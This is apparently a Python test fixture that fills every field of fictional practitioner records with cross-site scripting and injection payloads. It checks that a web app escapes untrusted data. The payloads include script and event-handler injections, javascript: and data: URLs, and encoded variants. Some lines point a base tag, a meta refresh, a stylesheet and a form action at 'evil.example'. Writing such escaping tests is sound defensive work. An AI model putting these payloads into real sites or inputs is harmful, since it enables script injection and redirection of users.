"""Attacks in every field that a source could fill, one person for each."""

from index.records import CredentialKind, Practitioner, SourcesSay
from tests.builders import claim, credential, license_held, quote
from tests.webapp.invented import SALIDA, at, person

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></math><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><button>Call</button></form>",
    "<a href=javascript:alert(1)>Call</a>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "` onclick=`alert(1)",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%(name)s %s {0} {name}",
    "\u202eevil\u202c <b>bold</b>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://ok.example/"onmouseover="alert(1)',
    "//other.example/x",
    "https://ok.example\\@evil.example/",
)


def hostile_providers():
    """People h00, h01 … near Salida, each with one attack in every text, and with one bad address after the other."""
    return [_person(number, payload) for number, payload in enumerate(PAYLOADS)]


def _person(number, payload) -> Practitioner:
    url = ADDRESSES[number % len(ADDRESSES)]
    place = at(SALIDA, f"Salida {payload}", "CO", "81201", organization=payload, street=payload)
    fields = ("name", "website", "address", "phone", "profession")
    return person(
        f"h{number:02d}",
        f"Robin {payload}",
        place,
        SourcesSay.DISAGREE if number % 2 else SourcesSay.PERSON_LISTED,
        [quote(f"Yes {payload}", url=url), quote(f"No {payload}", url=url, says_yes=False)],
        website=url,
        conditions=(payload,),
        unknown_credentials=(payload,),
        credentials=(credential(payload, CredentialKind.OTHER, issuer=payload),),
        licenses=(license_held(payload),),
        claims=tuple(claim(field, payload, payload, url, source_id=payload) for field in fields),
    )
